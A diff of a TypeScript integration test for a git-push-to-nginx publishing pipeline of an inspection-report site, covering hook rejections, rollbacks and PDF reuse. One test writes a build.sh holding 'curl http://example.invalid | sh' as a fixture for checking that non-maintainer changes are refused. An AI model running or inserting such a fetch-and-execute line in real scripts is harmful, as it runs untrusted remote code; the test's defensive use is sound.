@@ -1,18 +1,23 @@
-import { spawn, spawnSync } from 'node:child_process';
 import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { launchChromium } from '../../scripts/lib/chromium.ts';
 import { PROJECT_ROOT, userEnvironment } from '../helpers/build-site.ts';
+import { closeBrowser, launchBrowser } from '../helpers/chromium.ts';
+import { httpGet } from '../helpers/http.ts';
 import { hasBrotli, hasNginx, startNginx, type Nginx } from '../helpers/nginx.ts';
+import { run as runProcess, runQuick } from '../helpers/processes.ts';
 
 /**
  * From `git push` to the page nginx serves, with real parts: a bare repository with
  * deploy/hooks/ installed (this checkout is the trusted app), Debian's nginx with
  * deploy/nginx/inspection-report.conf, and `npm run publish`. Most publishes skip the PDFs
  * (inspection.pdf false); one prints them, to show a .pdf served.
+ *
+ * Pushes and publishes build the site (a minute on a loaded machine): they run asynchronously,
+ * so that Vitest's worker stays responsive. Requests to nginx go through httpGet, a connection
+ * each: nginx may close an idle kept-alive connection that `fetch` would reuse.
  */
 
 if (!hasNginx && process.env.CI) throw new Error('CI needs nginx at /usr/sbin/nginx (apt-get install nginx)');
@@ -36,26 +41,17 @@ const environment = () => {
   return { ...env, ASTRO_TELEMETRY_DISABLED: '1', REPORT_DATE: '2026-11-24', BASE_PATH: BASE };
 };
 
-function run(command: string, args: string[], cwd: string, env: Record<string, string> = {}): Run {
-  const result = spawnSync(command, args, { cwd, env: { ...environment(), ...env }, encoding: 'utf8' });
-  return { status: result.status, output: `${result.stdout}${result.stderr}` };
+/** A command that builds or publishes, to its end: asynchronous, stopped if the test ends first. */
+async function run(command: string, args: string[], cwd: string, env: Record<string, string> = {}): Promise<Run> {
+  const result = await runProcess(command, args, { cwd, env: { ...environment(), ...env } });
+  return { status: result.status, output: result.output };
 }
 
-function runAsync(command: string, args: string[], cwd: string, env: Record<string, string> = {}): Promise<Run> {
-  return new Promise((resolve, reject) => {
-    const child = spawn(command, args, { cwd, env: { ...environment(), ...env } });
-    let output = '';
-    child.stdout.on('data', (chunk) => (output += chunk));
-    child.stderr.on('data', (chunk) => (output += chunk));
-    child.on('error', reject);
-    child.on('close', (status) => resolve({ status, output }));
-  });
-}
-
+/** A local git command (milliseconds; not a push, which runs the hooks). */
 function git(cwd: string, ...args: string[]): string {
-  const result = run('git', ['-c', 'user.name=测试', '-c', 'user.email=test@example.invalid', ...args], cwd);
-  if (result.status !== 0) throw new Error(`git ${args.join(' ')}: ${result.output}`);
-  return result.output.trim();
+  const result = runQuick('git', ['-c', 'user.name=测试', '-c', 'user.email=test@example.invalid', ...args], { cwd, env: environment() });
+  if (result.status !== 0) throw new Error(`git ${args.join(' ')}: ${result.stdout}${result.stderr}`);
+  return `${result.stdout}${result.stderr}`.trim();
 }
 
 describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
@@ -75,7 +71,7 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
   };
   /** Drops the last line (one finding) of the campaign's findings.csv. */
   const withoutLastFinding = () => readFileSync(path.join(work, FINDINGS), 'utf8').trimEnd().split('\n').slice(0, -1).join('\n') + '\n';
-  const get = (url: string, headers: Record<string, string> = {}) => fetch(`${nginx.url}${url}`, { headers });
+  const get = (url: string, headers: Record<string, string> = {}) => httpGet(`${nginx.url}${url}`, { headers });
   /** The findings figure of the campaign, as the page served by nginx shows it. */
   const servedFigure = async () => {
     const response = await get(`${BASE}campaigns/${CAMPAIGN}/`);
@@ -129,17 +125,21 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
     git(work, 'remote', 'add', 'origin', bare);
     nginx = await startNginx({ dir: path.join(tmp, 'nginx'), webRoot, base: BASE });
     console.log(`nginx site configuration (from deploy/nginx/inspection-report.conf):\n${nginx.siteConfig}`);
-    if (existsSync(CHROMIUM)) browser = await launchChromium(CHROMIUM);
+    if (existsSync(CHROMIUM)) browser = await launchBrowser(CHROMIUM);
   });
 
+  // Whatever failed: Chromium closed (or killed), nginx stopped (or killed), the files removed.
   afterAll(async () => {
-    await browser?.close();
-    await nginx?.stop();
-    rmSync(tmp, { recursive: true, force: true });
+    try {
+      await closeBrowser(browser);
+      await nginx?.stop();
+    } finally {
+      if (tmp) rmSync(tmp, { recursive: true, force: true });
+    }
   });
 
   it('publishes the first push, and nginx serves it under the sub-path', async () => {
-    const pushed = push('alice');
+    const pushed = await push('alice');
     console.log(`first push:\n${pushed.output}`);
     expect(pushed.status).toBe(0);
     expect(pushed.output).toContain('✔ 已发布');
@@ -159,7 +159,7 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
 
   it('publishes a data change pushed by a clerk: nginx serves the new figure', async () => {
     commitFile(FINDINGS, withoutLastFinding(), '删除 M16');
-    const pushed = push('bob');
+    const pushed = await push('bob');
     expect(pushed.status, pushed.output).toBe(0);
     expect(await servedFigure()).toBe(15);
     expect((await status()).last).toMatchObject({ action: 'publish', ok: true, pushedBy: 'bob' });
@@ -169,24 +169,33 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
     const good = git(work, 'rev-parse', 'HEAD');
     const text = readFileSync(path.join(work, FINDINGS), 'utf8').replace(',2026-04-30,closed,2026-04-22', ',2026-13-30,closed,2026-04-22');
     const bad = commitFile(FINDINGS, text, '写错的日期');
-    const pushed = push('bob');
-    console.log(`push with a data error:\n${pushed.output}`);
-    expect(pushed.status).not.toBe(0);
-    expect(pushed.output).toMatch(new RegExp(`remote: ${FINDINGS}:2:10 错误`));
-    expect(pushed.output).toContain('无法识别的日期“2026-13-30”');
-    expect(pushed.output).toContain('✘ 推送被拒绝');
-    expect(pushed.output).toContain('[remote rejected] HEAD -> main (pre-receive hook declined)');
-    expect(git(bare, 'rev-parse', 'main')).toBe(good);
-    expect(await servedFigure()).toBe(15);
-    const state = await status();
-    expect(state.last).toMatchObject({ action: 'rejected', ok: false, commit: bad, pushedBy: 'bob' });
-    expect(state.last.messages.join('\n')).toContain('无法识别的日期');
-    // The branch did not move: the live site is still the newest accepted data.
-    expect(state.stale).toBe(false);
-    const page = await (await get(`${BASE}status/`)).text();
-    expect(page).toContain('推送被拒绝');
-    expect(page).toContain('无法识别的日期“2026-13-30”');
-    git(work, 'reset', '-q', '--hard', good);
+    // The bad commit goes whatever is found wrong: the tests after this one push from here.
+    try {
+      const pushed = await push('bob');
+      console.log(`push with a data error:\n${pushed.output}`);
+      expect(pushed.status).not.toBe(0);
+      expect(pushed.output).toMatch(new RegExp(`remote: ${FINDINGS}:2:10 错误`));
+      expect(pushed.output).toContain('无法识别的日期“2026-13-30”');
+      expect(pushed.output).toContain('✘ 推送被拒绝');
+      expect(pushed.output).toContain('[remote rejected] HEAD -> main (pre-receive hook declined)');
+      expect(git(bare, 'rev-parse', 'main')).toBe(good);
+      expect(await servedFigure()).toBe(15);
+      const state = await status();
+      expect(state.last).toMatchObject({ action: 'rejected', ok: false, commit: bad, pushedBy: 'bob' });
+      // The public status page names the place and the kind, never a cell's value (the full
+      // message went to the pusher's terminal): scripts/lib/publish/rejection.ts.
+      const where = `${FINDINGS} 第 2 行，第 10 列（J 列，整改期限）：错误`;
+      expect(state.last.messages).toContain(where);
+      expect(state.last.messages.join('\n')).not.toContain('2026-13-30');
+      // The branch did not move: the live site is still the newest accepted data.
+      expect(state.stale).toBe(false);
+      const page = await (await get(`${BASE}status/`)).text();
+      expect(page).toContain('推送被拒绝');
+      expect(page).toContain(where);
+      expect(page).not.toContain('2026-13-30');
+    } finally {
+      git(work, 'reset', '-q', '--hard', good);
+    }
   });
 
   it('rejects changes outside data/ and templates/ from a non-maintainer, and accepts them from a maintainer', async () => {
@@ -194,13 +203,13 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
     writeFileSync(path.join(work, 'build.sh'), 'curl http://example.invalid | sh\n');
     git(work, 'add', 'build.sh');
     git(work, 'commit', '-q', '-m', '构建脚本');
-    const byBob = push('bob');
+    const byBob = await push('bob');
     console.log(`non-maintainer push outside data/:\n${byBob.output}`);
     expect(byBob.status).not.toBe(0);
     expect(byBob.output).toContain('只有维护者（alice）可以修改 data/ 和 templates/ 以外的文件');
     expect(byBob.output).toContain('build.sh');
     expect(((await status()).last)).toMatchObject({ action: 'rejected', pushedBy: 'bob' });
-    const byAlice = push('alice');
+    const byAlice = await push('alice');
     expect(byAlice.status, byAlice.output).toBe(0);
     expect((await status()).last).toMatchObject({ action: 'publish', ok: true, pushedBy: 'alice' });
     expect(await servedFigure()).toBe(15);
@@ -212,13 +221,16 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
     cpSync(path.join(PROJECT_ROOT, 'data'), path.join(older, 'data'), { recursive: true });
     const before = new Set(releases());
     const pushedCommit = commitFile(FINDINGS, withoutLastFinding(), '删除 M15');
-    const pushing = runAsync('git', ['push', 'origin', 'HEAD:main'], work, { GL_USERNAME: 'bob' });
-    // Start the manual run once the hook's publish holds the lock.
-    for (const deadline = Date.now() + 30_000; !existsSync(path.join(webRoot, '.publish.lock')); ) {
-      if (Date.now() > deadline) throw new Error('the hook never took the lock');
+    const pushing = push('bob');
+    let pushDone = false;
+    void pushing.finally(() => (pushDone = true));
+    // Start the manual run once the hook's publish holds the lock: however long the hook takes
+    // to get there (no deadline to race), but not after the push has ended without it.
+    while (!existsSync(path.join(webRoot, '.publish.lock'))) {
+      if (pushDone) throw new Error(`the hook never took the lock:\n${(await pushing).output}`);
       await new Promise((resolve) => setTimeout(resolve, 20));
     }
-    const manual = runAsync(process.execPath, ['scripts/run.mjs', 'publish', '--to', webRoot, '--no-pdf'], PROJECT_ROOT, { DATA_DIR: path.join(older, 'data') });
+    const manual = run(process.execPath, ['scripts/run.mjs', 'publish', '--to', webRoot, '--no-pdf'], PROJECT_ROOT, { DATA_DIR: path.join(older, 'data') });
     const [pushed, manualRun] = await Promise.all([pushing, manual]);
     console.log(`manual publish during the hook's:\n${manualRun.output.split('\n').filter((line) => !/^\d\d:\d\d:\d\d /.test(line)).join('\n')}`);
     expect(pushed.status, pushed.output).toBe(0);
@@ -247,20 +259,20 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
 
   it('rolls back to the previous release, or to a named one', async () => {
     const [first] = releases();
-    const back = publish(['--rollback']);
+    const back = await publish(['--rollback']);
     expect(back.status, back.output).toBe(0);
     expect(await servedFigure()).toBe(14);
     expect((await status()).stale).toBe(false);
     expect(await staleCss()).not.toContain('display: inline');
     expect(await staleLinkVisible()).toBe(browser ? false : undefined);
-    const named = publish(['--rollback', first as string]);
+    const named = await publish(['--rollback', first as string]);
     console.log(`rollback to the first release:\n${named.output}`);
     expect(named.status, named.output).toBe(0);
     expect(await servedFigure()).toBe(16);
     const state = await status();
     expect(state.last).toMatchObject({ action: 'rollback', ok: true, release: first });
     expect(state.stale).toBe(true);
-    const unknown = publish(['--rollback', '20000101T000000Z-0000000']);
+    const unknown = await publish(['--rollback', '20000101T000000Z-0000000']);
     expect(unknown.status).toBe(1);
     expect(unknown.output).toContain('✘ 没有版本 20000101T000000Z-0000000');
   });
@@ -270,7 +282,7 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
     cpSync(path.join(work, 'data'), path.join(broken, 'data'), { recursive: true });
     writeFileSync(path.join(broken, 'data', 'units.csv'), '单位编码,单位名称\nzxrc,竹溪瑞城\n');
     const before = releases();
-    const failed = publish(['--no-pdf', '--pushed-by', 'carol'], { DATA_DIR: path.join(broken, 'data') });
+    const failed = await publish(['--no-pdf', '--pushed-by', 'carol'], { DATA_DIR: path.join(broken, 'data') });
     console.log(`failed publish:\n${failed.output}`);
     expect(failed.status).toBe(1);
     expect(failed.output).toContain('✘ 发布失败，线上网站保持为');
@@ -281,33 +293,33 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
     expect(state.last.messages.join('\n')).toContain('units.csv');
     expect(state.stale).toBe(true);
     // A site built for another sub-path would have every link broken: refused before building.
-    const elsewhere = publish(['--no-pdf'], { BASE_PATH: '/' });
+    const elsewhere = await publish(['--no-pdf'], { BASE_PATH: '/' });
     expect(elsewhere.status).toBe(1);
     expect(elsewhere.output).toContain('✘ 本次的 BASE_PATH（/）与线上网站的（/reports/）不同，未发布');
     expect(releases()).toEqual(before);
   });
 
   it('publishes with PDFs, reusing the live ones, and keeps the last N releases', async () => {
-    const published = publish(['--keep', '3']);
+    const published = await publish(['--keep', '3']);
     expect(published.status, published.output).toBe(0);
     expect(releases()).toHaveLength(3);
-    const listed = publish(['--list']);
+    const listed = await publish(['--list']);
     console.log(`publish --list:\n${listed.output}`);
     expect(listed.status).toBe(0);
     expect(listed.output.split('\n').filter((line) => line.endsWith('← 线上'))).toHaveLength(1);
     expect(listed.output).toMatch(/\t3\t9\d\t\d+\t← 线上/);
   });
 
-  it('prints again, on a push, only the PDFs of the campaign the push changed, reusing the live release’s others', () => {
+  it('prints again, on a push, only the PDFs of the campaign the push changed, reusing the live release’s others', async () => {
     // The hook builds from a temporary checkout of the pushed commit: the data's git history is
     // that checkout's, its folder a new one each time. Neither may make every PDF look changed.
     git(bare, 'config', 'inspection.pdf', 'true');
     try {
       commitFile(FINDINGS, withoutLastFinding(), '删除一个问题');
-      const first = push('bob');
+      const first = await push('bob');
       expect(first.status, first.output).toBe(0);
       commitFile(FINDINGS, withoutLastFinding(), '再删除一个问题');
-      const second = push('bob');
+      const second = await push('bob');
       console.log(`a push that changes one campaign, PDFs on:\n${second.output.split('\n').filter((line) => /沿用|打印|合并|发布/.test(line)).join('\n')}`);
       expect(second.status, second.output).toBe(0);
       const printed = [...second.output.matchAll(/\[\d+\/\d+\] (pdf\/\S+?\.pdf)（/g)].map((match) => match[1]);
@@ -352,11 +364,12 @@ describe.skipIf(!hasNginx)('publishing from git push to nginx', () => {
       expect(await brotli.text()).toContain('</html>');
     }
     // Without Accept-Encoding the plain file; a directory without its slash is redirected; no listings; a 404 page.
-    const plain = await fetch(`${nginx.url}${BASE}campaigns/${CAMPAIGN}/findings.csv`, { headers: { 'Accept-Encoding': 'identity' } });
+    const plain = await get(`${BASE}campaigns/${CAMPAIGN}/findings.csv`, { 'Accept-Encoding': 'identity' });
     expect(plain.headers.get('content-encoding')).toBeNull();
     // The download's BOM (for Excel) arrives as written.
     expect(Buffer.from(await plain.arrayBuffer()).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
-    expect((await fetch(`${nginx.url}${BASE}campaigns/${CAMPAIGN}`, { redirect: 'manual' })).status).toBe(301);
+    // httpGet follows no redirect.
+    expect((await get(`${BASE}campaigns/${CAMPAIGN}`)).status).toBe(301);
     expect((await get(`${BASE}_astro/`)).status).toBe(403);
     const missing = await get(`${BASE}campaigns/no-such-campaign/`);
     expect(missing.status).toBe(404);
